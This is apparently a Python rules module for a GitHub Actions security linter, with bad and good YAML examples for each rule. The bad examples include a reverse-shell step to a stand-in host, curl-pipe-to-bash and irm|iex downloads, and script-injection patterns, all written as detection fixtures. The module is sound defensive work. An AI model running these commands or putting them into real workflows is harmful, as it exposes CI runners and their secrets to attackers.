"""GitHub Actions: what the steps of a workflow do. Scripts, foreign code, caches, artefacts, publishing, odd actions."""

from __future__ import annotations

from ...finding import Example, Rule
from ..actions import caches, envfiles, foreign, hygiene, injection, publish, scripts, semantics
from ..match import Custom
from .actions import BOTH, WORKFLOW, job, steps

_SECURE_USE = "https://docs.github.com/en/actions/reference/security/secure-use"
_COMMANDS = "https://docs.github.com/en/actions/reference/workflows-and-actions/workflow-commands"
_SYNTAX = "https://docs.github.com/en/actions/reference/workflows-and-actions/workflow-syntax"
_PWN = "https://securitylab.github.com/resources/github-actions-preventing-pwn-requests/"
_SHA = "0a727065ae5a2313e8e6acf172844e8ca30c1822"


RULES: tuple[Rule, ...] = (
    Rule(
        id="actions-invalid-expression",
        family="config",
        title="this expression cannot mean what was intended",
        severity="low",
        tier="warn",
        cwe=697,
        why="A misspelt property or a context that does not exist here is empty at run time: a condition on it is always false, or always true when negated, and nothing says so.",
        fix="Mend the expression; which contexts exist where is in GitHub's reference.",
        match=Custom(BOTH, semantics.broken_expressions),
        equivalents=("actionlint:expression",),
        references=("https://docs.github.com/en/actions/reference/workflows-and-actions/contexts#context-availability",),
        bad=(
            steps("push", "      - run: make\n        if: ${{ «github.evnt_name» == 'push' }}\n"),
            steps("push", '      - run: make\n        if: github.actor == «""me"\n'.replace('«""', '«"»')),
            Example(job("push", "    if: ${{ «secrets».KEY != '' }}\n    steps:\n      - run: make\n")),
            steps(
                "push", "      - run: make\n        if: ${{ «steps.built».outputs.ok == 'true' }}\n      - id: built\n        run: make\n"
            ),
            steps("push", "      - run: make\n        if: ${{ «startWith(github.ref, 'refs/tags')» }}\n"),
        ),
        good=(
            steps(
                "push",
                "      - id: built\n        run: make\n      - run: make\n        if: ${{ steps.built.outputs.ok == 'true' && github.event.anything.goes }}\n",
            ),
            steps(
                "push",
                "      - run: make\n        if: success() && startsWith(github.ref, 'refs/tags/')\n        env:\n          KEY: ${{ secrets.KEY }}\n",
            ),
        ),
    ),
    Rule(
        id="actions-templated-script",
        family="config",
        title="this script is a template that is filled in before it runs",
        severity="low",
        tier="audit",
        cwe=94,
        confidence="low",
        why="A script of several lines into which expressions are written cannot be linted, quoted or reviewed as the code that will run.",
        fix="Keep the script free of ${{ … }}: hand values over in env: and use them as quoted variables.",
        match=Custom(BOTH, injection.scripts_by_template, ("run", "with")),
        equivalents=(
            "kics:20f14e1a",
            "kics:62ff6823",
            "checkov:CKV_GHA_2",
            "actionlint:expression",
            "semgrep:run-shell-injection",
            "poutine:injection",
        ),
        references=("https://docs.github.com/en/actions/concepts/security/script-injections",),
        bad=(steps("push", "      - «run»: |\n          echo start\n          echo ${{ github.ref_name }}\n"),),
        good=(
            steps("push", "      - run: |\n          echo start\n          echo ${{ github.run_id }}\n"),
            steps(
                "push", '      - run: |\n          echo start\n          echo "$REF"\n        env:\n          REF: ${{ github.ref_name }}\n'
            ),
        ),
    ),
    Rule(
        id="actions-foreign-code-run",
        family="config",
        title="a stranger's checkout is built or run with the repository's token",
        severity="critical",
        tier="block",
        cwe=829,
        why="Package scripts, Makefiles, test suites and tool settings of the checkout are code; here the author of a pull request decides what they do while secrets and a token are in reach.",
        fix="Build under pull_request, without secrets. What the privileged workflow needs, hand over as data (an artifact that is read, never run).",
        match=Custom(WORKFLOW, foreign.foreign_code_run, ("steps",)),
        equivalents=(
            "poutine:untrusted_checkout_exec",
            "semgrep:pull-request-target-code-checkout",
            "semgrep:workflow-run-target-code-checkout",
            "scorecard:dangerous-workflow",
            "octoscan:dangerous-checkout",
        ),
        references=(_PWN,),
        bad=(
            steps(
                "pull_request_target",
                "      - uses: actions/checkout@v4\n        with:\n          ref: ${{ github.event.pull_request.head.sha }}\n      - «run»: |\n          cd app\n          npm ci\n",
            ),
            steps(
                "workflow_run",
                "      - uses: actions/checkout@v4\n        with:\n          ref: ${{ github.event.workflow_run.head_sha }}\n      - uses: «./.github/actions/build»\n",
            ),
            steps("issue_comment", "      - run: gh pr checkout 1\n      - «run»: ./test.sh\n"),
            steps("issue_comment", "      - run: gh pr checkout 1\n      - shell: pwsh\n        «run»: npm ci\n"),
        ),
        good=(
            steps(
                "pull_request_target",
                "      - uses: actions/checkout@v4\n        with:\n          ref: ${{ github.event.pull_request.head.sha }}\n      - run: echo npm ci && git diff --stat\n",
            ),
            steps("pull_request_target", "      - uses: actions/checkout@v4\n      - run: npm ci\n"),
            steps(
                "pull_request",
                "      - uses: actions/checkout@v4\n        with:\n          ref: ${{ github.head_ref }}\n      - run: npm ci\n",
            ),
        ),
    ),
    Rule(
        id="actions-artifact-code-run",
        family="config",
        title="code is run beside what a stranger's run left behind",
        severity="high",
        tier="warn",
        cwe=829,
        confidence="medium",
        why="The artifact was made by a pull request's run; unpacked into the workspace it can replace any file that is built, sourced or executed next.",
        fix="Unpack it into ${{ runner.temp }}, treat what is in it as data, and check that it holds only what is expected.",
        match=Custom(WORKFLOW, foreign.artifact_code_run, ("steps",)),
        equivalents=(
            "poutine:untrusted_checkout_exec",
            "octoscan:dangerous-action",
        ),
        references=(_PWN,),
        bad=(
            steps(
                "workflow_run",
                "      - uses: actions/download-artifact@v4\n        with:\n          run-id: ${{ github.event.workflow_run.id }}\n      - «run»: ./report.sh\n",
            ),
        ),
        good=(
            steps(
                "workflow_run",
                "      - uses: actions/download-artifact@v4\n        with:\n          path: ${{ runner.temp }}/artifact\n      - run: ./report.sh\n",
            ),
            steps("workflow_run", "      - uses: actions/download-artifact@v4\n      - run: cat size.txt\n"),
        ),
    ),
    Rule(
        id="actions-text-run-as-code",
        family="config",
        title="text that anyone can write is run as code",
        severity="critical",
        tier="block",
        cwe=94,
        why="The variable is safe in a quoted argument; inside of eval, sh -c or ssh it is parsed once more, as a program.",
        fix="Hand the value over as an argument or in the environment of the inner program, and quote it there.",
        match=Custom(BOTH, scripts.text_as_code, ("run",)),
        equivalents=("poutine:injection", "semgrep:run-shell-injection"),
        references=("https://docs.github.com/en/actions/concepts/security/script-injections",),
        bad=(
            steps("issues", '      - env:\n          TITLE: ${{ github.event.issue.title }}\n        run: bash -c «"echo $TITLE"»\n'),
            steps("pull_request_target", '      - run: eval «"deploy $GITHUB_HEAD_REF"»\n'),
        ),
        good=(
            steps(
                "issues", '      - env:\n          TITLE: ${{ github.event.issue.title }}\n        run: bash -c \'echo "$1"\' x "$TITLE"\n'
            ),
            steps("issues", '      - env:\n          N: ${{ github.event.issue.number }}\n        run: bash -c "echo $N"\n'),
        ),
    ),
    Rule(
        id="actions-github-env-write",
        family="config",
        title="a value that strangers may decide is written to GITHUB_ENV or GITHUB_PATH",
        severity="high",
        tier="block",
        cwe=94,
        confidence="medium",
        why="These files set variables and paths of all later steps: with a line break in the value a stranger sets NODE_OPTIONS, LD_PRELOAD or PATH and runs code.",
        fix="Write it to GITHUB_OUTPUT and hand it to the one step that needs it, or check it against a fixed alphabet first.",
        match=Custom(WORKFLOW, envfiles.environment_file, ("run",)),
        equivalents=(
            "zizmor:github-env",
            "octoscan:dangerous-write",
        ),
        references=(
            _COMMANDS,
            "https://www.synacktiv.com/publications/github-actions-exploitation-repo-jacking-and-environment-manipulation",
        ),
        bad=(
            steps(
                "pull_request_target",
                '      - env:\n          TITLE: ${{ github.event.pull_request.title }}\n        «run»: |\n          echo start\n          echo "TITLE=$TITLE" >> "$GITHUB_ENV"\n',
            ),
            steps("workflow_run", "      - «run»: cat out/path.txt >> $GITHUB_PATH\n"),
            steps("workflow_run", '      - «run»: printf \'PR=%s\' "$(cat pr.txt)" | tee -a "$GITHUB_ENV"\n'),
        ),
        good=(
            steps(
                "pull_request_target",
                '      - run: |\n          echo "STARTED=$(date +%s)" >> "$GITHUB_ENV"\n          echo "$HOME/.local/bin" >> "$GITHUB_PATH"\n',
            ),
            steps("push", '      - run: echo "VERSION=$(cat version.txt)" >> "$GITHUB_ENV"\n'),
            steps(
                "pull_request_target",
                '      - run: echo "title=$T" >> "$GITHUB_OUTPUT"\n        env:\n          T: ${{ github.event.pull_request.title }}\n',
            ),
        ),
    ),
    Rule(
        id="actions-github-env-in-action",
        family="config",
        title="this action writes a value it did not choose to GITHUB_ENV or GITHUB_PATH",
        severity="medium",
        tier="warn",
        cwe=94,
        confidence="low",
        why="An action does not know who calls it on what; where the value comes from a pull request, its author sets variables and paths of all later steps.",
        fix="Give the value out as an output of the action, or check it against a fixed alphabet first.",
        match=Custom(("github-action",), envfiles.environment_file_in_action, ("runs",)),
        equivalents=(
            "zizmor:github-env",
            "octoscan:dangerous-write",
        ),
        references=(_COMMANDS,),
        bad=(
            Example(
                'runs:\n  using: composite\n  steps:\n    - «run»: |\n        echo "V=$(./version)" >> $GITHUB_ENV\n      shell: bash\n'
            ),
            Example(
                'runs:\n  using: composite\n  steps:\n    - «run»: |\n        echo "foo=$env:BAR" >> $env:GITHUB_ENV\n      shell: pwsh\n'
            ),
        ),
        good=(
            Example(
                'runs:\n  using: composite\n  steps:\n    - run: |\n        echo foo=bar >> $GITHUB_ENV\n        echo "${{ github.action_path }}" >> $GITHUB_PATH\n      shell: bash\n'
            ),
        ),
    ),
    Rule(
        id="actions-deprecated-command",
        family="config",
        title="a workflow command that is disabled or deprecated",
        severity="low",
        tier="warn",
        cwe=78,
        why="These commands are read from the log: whatever prints such a line sets outputs, and with set-env variables, of the job.",
        fix='Append to the files instead: echo "name=value" >> "$GITHUB_OUTPUT" (GITHUB_ENV, GITHUB_PATH, GITHUB_STATE).',
        match=Custom(BOTH, scripts.old_commands, ("run",)),
        equivalents=("actionlint:deprecated-commands",),
        references=("https://github.blog/changelog/2022-10-11-github-actions-deprecating-save-state-and-set-output-commands/",),
        bad=(steps("push", "      - run: |\n          echo \"«::set-output» name=v::$V\"\n          echo '«::add-path»::/opt/bin'\n"),),
        good=(
            steps(
                "push",
                '      - run: |\n          echo "v=$V" >> "$GITHUB_OUTPUT"\n          echo \'::notice title=done::all set-output is gone\'\n',
            ),
        ),
    ),
    Rule(
        id="actions-unverified-script",
        family="config",
        title="a download is run unread",
        severity="high",
        tier="warn",
        cwe=494,
        why="Whoever controls the address, or the way to it, controls the job and its secrets; Codecov's uploader was changed that way for two months.",
        fix="Fetch a fixed version, check its SHA-256 and then run it; or use the system's package, or an action pinned by commit.",
        match=Custom(BOTH, scripts.unread_script, ("run",)),
        equivalents=("poutine:unverified_script_exec", "semgrep:curl-eval", "checkov:CKV_GHA_3"),
        references=("https://about.codecov.io/security-update/",),
        bad=(
            steps("push", "      - run: |\n          set -e\n          «curl -fsSL https://get.acme.dev | sudo bash -s -- -y»\n"),
            steps("push", "      - run: «bash <(curl -s https://acme.dev/upload)»\n"),
            steps("push", "      - shell: pwsh\n        run: «irm https://acme.dev/install.ps1 | iex»\n"),
        ),
        good=(
            steps("push", f"      - run: curl -fsSL https://raw.githubusercontent.com/a/b/{_SHA}/install.sh | bash\n"),
            steps("push", "      - run: curl -fsSL https://acme.dev/data.json | jq .version\n"),
            steps("push", "      - run: echo 'curl https://acme.dev | sh' ${{ github.sha }}\n"),
        ),
    ),
    Rule(
        id="actions-reverse-shell",
        family="config",
        title="this step opens a shell to somebody on the network",
        severity="critical",
        tier="block",
        cwe=506,
        why="There is no build that needs it; it is how a stolen account turns a workflow into access to the runner and its secrets.",
        fix="Find out who added it, take it out, and rotate every secret that this workflow can read.",
        match=Custom(BOTH, scripts.reverse_shell, ("run",)),
        equivalents=("checkov:CKV_GHA_4", "semgrep:bash_reverse_shell"),
        references=("https://attack.mitre.org/techniques/T1059/004/",),
        bad=(
            steps("push", "      - run: |\n          make\n          «bash -i >& /dev/tcp/203.0.113.9/4444 0>&1»\n"),
            steps("push", "      - run: «sudo nc -e /bin/sh evil.example 4444»\n"),
        ),
        good=(
            steps(
                "push",
                "      - run: |\n          until timeout 1 bash -c '</dev/tcp/localhost/5432'; do sleep 1; done\n          nc -z \"$DB_HOST\" 5432\n",
            ),
            steps("push", "      - run: echo 'bash -i >& /dev/tcp/203.0.113.9/4444' ${{ github.sha }}\n"),
        ),
    ),
    Rule(
        id="actions-secret-on-command-line",
        family="config",
        title="a secret is pasted into a download command",
        severity="low",
        tier="audit",
        cwe=522,
        confidence="low",
        why="On the command line the secret is in the process list and, when the command fails, in messages; an address that changes its owner gets it.",
        fix="Hand the secret over in env: and to curl through a header file or --config -.",
        match=Custom(BOTH, scripts.secret_in_download, ("run",)),
        equivalents=("checkov:CKV_GHA_3",),
        references=(_SECURE_USE,),
        bad=(steps("push", '      - run: |\n          curl -H «"Authorization: ${{ secrets.API_KEY }}"» https://api.acme.dev\n'),),
        good=(
            steps(
                "push",
                '      - run: |\n          curl -H "Authorization: $API_KEY" https://api.acme.dev\n        env:\n          API_KEY: ${{ secrets.API_KEY }}\n',
            ),
        ),
    ),
    Rule(
        id="actions-cache-poisoning",
        family="config",
        title="a job that releases restores a cache",
        severity="high",
        tier="warn",
        cwe=349,
        confidence="low",
        why="A cache can be filled from any branch that has it in scope; what is restored here, such as a compiler or a dependency, goes into the release unseen.",
        fix="Build releases without caches: switch the action's cache off in this job.",
        match=Custom(WORKFLOW, caches.poisoned_cache, ("uses",)),
        equivalents=("zizmor:cache-poisoning",),
        references=("https://adnanthekhan.com/2024/05/06/the-monsters-in-your-build-cache-github-actions-cache-poisoning/",),
        bad=(
            steps("release", "      - uses: «Swatinem/rust-cache@v2»\n      - run: cargo build\n"),
            Example(
                "on:\n  push:\n    tags: ['v*']\npermissions: {}\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: «actions/setup-java@v4»\n        with:\n          cache: maven\n"
            ),
            steps("push", "      - uses: «actions/setup-go@v5»\n      - uses: goreleaser/goreleaser-action@v6\n"),
            steps(
                "push",
                "      - uses: «actions/cache@v4»\n        with:\n          path: ~/.npm\n          key: a\n      - run: npm publish\n",
            ),
        ),
        good=(
            steps("release", "      - uses: actions/setup-go@v5\n        with:\n          cache: false\n"),
            steps("push", "      - uses: actions/setup-go@v5\n      - run: go build\n"),
            steps("release", "      - uses: actions/setup-go@v3 # caches only when told\n"),
            steps(
                "release", "      - uses: actions/cache/save@v4\n        with:\n          path: ~/.npm\n          key: ${{ github.sha }}\n"
            ),
            Example(
                "on:\n  push:\n    branches: [main]\n    tags: ['v*']\npermissions: {}\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: PyO3/maturin-action@v1\n"
                "        with:\n          sccache: ${{ !startsWith(github.ref, 'refs/tags/') }}\n"
            ),
        ),
    ),
    Rule(
        id="actions-artifact-leaks-credentials",
        family="config",
        title="the uploaded workspace holds the checkout's token",
        severity="high",
        tier="warn",
        cwe=522,
        why="The checkout left the job's token in .git/config; whoever downloads this artifact while the job still runs has it.",
        fix="Upload only what was built, and set persist-credentials: false at the checkout.",
        match=Custom(BOTH, hygiene.leaking_artifact, ("uses",)),
        equivalents=("zizmor:artipacked",),
        references=("https://unit42.paloaltonetworks.com/github-repo-artifacts-leak-tokens/",),
        bad=(
            steps(
                "push", "      - uses: actions/checkout@v4\n      - uses: actions/upload-artifact@v3\n        with:\n          path: «.»\n"
            ),
            steps(
                "push",
                "      - uses: actions/checkout@v4\n      - uses: actions/upload-artifact@v4\n        with:\n          path: «${{ github.workspace }}»\n          include-hidden-files: true\n",
            ),
            steps(
                "push",
                "      - uses: actions/checkout@v4\n        with:\n          path: src\n      - uses: actions/upload-artifact@v3\n        with:\n          path: «./src/**»\n",
            ),
        ),
        good=(
            steps(
                "push",
                "      - uses: actions/checkout@v4\n        with:\n          persist-credentials: false\n      - uses: actions/upload-artifact@v3\n        with:\n          path: .\n",
            ),
            steps(
                "push",
                "      - uses: actions/checkout@v4\n      - uses: actions/upload-artifact@v3\n        with:\n          path: ${{ matrix.out }}/dist\n",
            ),
            steps(
                "push",
                "      - uses: actions/checkout@v4\n        with:\n          path: src\n      - uses: actions/upload-artifact@v3\n        with:\n          path: src/dist\n",
            ),
        ),
    ),
    Rule(
        id="actions-publish-with-token",
        family="config",
        title="a package is published with a long-lived token",
        severity="low",
        tier="warn",
        cwe=522,
        why="A token that lies in the settings publishes for whoever gets hold of it; trusted publishing gives the job a short-lived one instead.",
        fix="Register this workflow as a trusted publisher at the registry, give the job id-token: write and take the token out.",
        match=Custom(BOTH, publish.token_publish_action, ("uses",)),
        equivalents=("zizmor:use-trusted-publishing",),
        references=("https://docs.pypi.org/trusted-publishers/",),
        bad=(
            steps("push", "      - uses: «pypa/gh-action-pypi-publish@v1»\n        with:\n          password: ${{ secrets.PYPI }}\n"),
            steps(
                "push",
                "      - uses: «actions/setup-node@v4»\n        with:\n          registry-url: https://registry.npmjs.org\n          always-auth: true\n",
            ),
        ),
        good=(
            steps("push", "      - uses: pypa/gh-action-pypi-publish@v1\n"),
            steps(
                "push",
                "      - uses: pypa/gh-action-pypi-publish@v1\n        with:\n          password: ${{ secrets.TOKEN }}\n          repository-url: https://pypi.acme.dev/\n",
            ),
        ),
    ),
    Rule(
        id="actions-publish-command-with-token",
        family="config",
        title="a command publishes a package without trusted publishing",
        severity="low",
        tier="warn",
        cwe=522,
        confidence="medium",
        why="The job has no id-token permission, so the command uses a token that lies in the settings and publishes for whoever gets hold of it.",
        fix="Register this workflow as a trusted publisher at the registry, give the job id-token: write and take the token out.",
        match=Custom(WORKFLOW, publish.token_publish_command, ("run",)),
        equivalents=("zizmor:use-trusted-publishing",),
        references=("https://docs.npmjs.com/trusted-publishers/",),
        bad=(
            steps("push", "      - run: «npm publish --access public»\n"),
            steps("push", "      - run: |\n          make\n          «python -m twine upload dist/*»\n"),
            steps("push", "      - run: «npm --workspace packages/core publish»\n"),
        ),
        good=(
            steps("push", "      - run: cargo publish --dry-run\n"),
            Example(
                job(
                    "push",
                    "    permissions:\n      id-token: write\n    steps:\n      - run: npm publish\n        env:\n          TAG: ${{ github.ref_name }}\n",
                )
            ),
            steps("push", "      - run: echo npm publish\n"),
            steps("push", "      - run: npm --workspace publish run build\n"),
            steps(
                "push",
                "      - uses: actions/setup-node@v5\n        with:\n          registry-url: ${{ vars.REGISTRY }}\n      - run: npm publish\n",
            ),
        ),
    ),
    Rule(
        id="actions-obfuscated",
        family="config",
        title="this is written so that tools and readers do not recognise it",
        severity="low",
        tier="warn",
        cwe=506,
        why="Needless path parts and computed names work, but hide which action or value is used from reviews and scanners.",
        fix="Write it plainly.",
        match=Custom(BOTH, hygiene.obfuscated),
        equivalents=("zizmor:obfuscation",),
        references=(_SYNTAX,),
        bad=(
            steps("push", "      - uses: «actions/./checkout@v4»\n        with:\n          persist-credentials: false\n"),
            steps("push", "      - run: make\n        env:\n          A: ${{ «github[format('{0}', 'sha')]» }}\n"),
        ),
        good=(
            steps("push", "      - uses: acme/tools/setup/node@v1\n      - run: make\n        env:\n          A: ${{ github['sha'] }}\n"),
        ),
    ),
    Rule(
        id="actions-constant-expression",
        family="config",
        title="this expression only computes with constants",
        severity="info",
        tier="audit",
        cwe=506,
        why="An expression that reads nothing could be written as its result; computing it is of use only to hide it.",
        fix="Write the result.",
        match=Custom(BOTH, hygiene.constant_expression),
        equivalents=("zizmor:obfuscation",),
        references=(_SYNTAX,),
        bad=(
            steps("push", "      - run: echo «${{ format('{0}{1}', 'a', 'b') }}»\n"),
            steps("push", "      - run: echo «${{ fromJSON('[\"a\"]')[0] }}» «${{ 'b' }}»\n"),
        ),
        good=(
            steps("push", "      - run: echo ${{ format('{0}', github.sha) }}\n"),
            steps("push", "      - run: echo a b\n        if: ${{ true }}\n"),
        ),
    ),
    Rule(
        id="actions-workspace-action",
        family="config",
        title="an action of this repository is taken from the workspace",
        severity="low",
        tier="audit",
        cwe=829,
        confidence="low",
        why="./ names whatever an earlier step put into the workspace, a stranger's checkout or an unpacked artifact among it; $/ names this repository at the commit that runs.",
        fix="Write $/ instead of ./ (github.com, runners from 2.336).",
        match=Custom(BOTH, hygiene.workspace_action, ("uses",)),
        equivalents=("zizmor:self-repository", "octoscan:local-action"),
        references=("https://github.blog/changelog/2026-07-30-reference-same-repository-actions-with-self-repository-syntax/",),
        bad=(
            steps("push", "      - uses: actions/checkout@v4\n      - uses: «./.github/actions/build»\n"),
            Example("on: push\npermissions: {}\njobs:\n  a:\n    uses: «./.github/workflows/build.yml»\n"),
        ),
        good=(
            steps("push", "      - uses: $/.github/actions/build\n        with:\n          ref: ${{ github.sha }}\n"),
            steps("push", "      - uses: actions/checkout@v4\n      - run: ./.github/actions/build\n"),
        ),
    ),
    Rule(
        id="actions-superfluous-action",
        family="config",
        title="an action for what the runner's own tools do",
        severity="info",
        tier="audit",
        cwe=1357,
        why="Each action is somebody else's code with this job's token.",
        fix="Use the tool that the runner has.",
        match=Custom(BOTH, hygiene.superfluous, ("uses",)),
        equivalents=("zizmor:superfluous-actions",),
        references=("https://docs.github.com/en/actions/concepts/runners/github-hosted-runners",),
        bad=(steps("push", "      - uses: «softprops/action-gh-release@v2»\n"),),
        good=(
            steps(
                "push",
                "      - uses: actions/checkout@v4\n        with:\n          persist-credentials: false\n      - run: gh release create ${{ github.ref_name }}\n",
            ),
        ),
    ),
    Rule(
        id="actions-misfeature",
        family="config",
        title="a feature that is hard to use safely",
        severity="info",
        tier="audit",
        cwe=1120,
        why="cmd has no strict quoting, and pip-install goes past lock files: both are easy to get wrong.",
        fix="Use bash or pwsh; install from a lock file in a step of its own.",
        match=Custom(BOTH, hygiene.misfeature, ("shell", "uses")),
        equivalents=("zizmor:misfeature",),
        references=(_SYNTAX,),
        bad=(
            steps("push", "      - run: dir\n        shell: «cmd»\n"),
            steps("push", "      - uses: actions/setup-python@v6\n        with:\n          «pip-install»: -r requirements.txt\n"),
        ),
        good=(steps("push", "      - run: ls\n        shell: ${{ inputs.shell }}\n      - run: ls\n        shell: bash\n"),),
    ),
    Rule(
        id="actions-anonymous",
        family="config",
        title="a workflow, action or job without a name",
        severity="info",
        tier="audit",
        cwe=1116,
        why="Without a name, logs and required checks show a path or an id that changes when the file is moved.",
        fix="Add name:.",
        match=Custom(BOTH, hygiene.anonymous),
        equivalents=("zizmor:anonymous-definition",),
        references=(_SYNTAX,),
        bad=(
            Example("name: Build\non: push\npermissions: {}\njobs:\n  «a»:\n    runs-on: ubuntu-latest\n    steps:\n      - run: make\n"),
        ),
        good=(
            Example(
                "name: Build\non: push\npermissions: {}\njobs:\n  a:\n    name: ${{ matrix.os }}\n    runs-on: ubuntu-latest\n    steps:\n      - run: make\n"
            ),
        ),
    ),
    Rule(
        id="actions-no-concurrency",
        family="config",
        title="runs of this workflow may overlap",
        severity="info",
        tier="audit",
        cwe=362,
        why="Without concurrency: old runs go on beside new ones: they cost, and a deployment of an old commit can end last.",
        fix="Add concurrency: with a group, and cancel-in-progress where that is right.",
        match=Custom(WORKFLOW, hygiene.no_concurrency),
        equivalents=("zizmor:concurrency-limits",),
        references=(_SYNTAX,),
        bad=(
            Example("«name»: Build\non: push\npermissions: {}\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - run: make\n"),
            Example(
                "on: push\n«concurrency»: ${{ github.ref }}\npermissions: {}\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - run: make\n"
            ),
        ),
        good=(
            Example(
                "on: push\nconcurrency:\n  group: ${{ github.ref }}\n  cancel-in-progress: true\npermissions: {}\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - run: make\n"
            ),
        ),
    ),
)
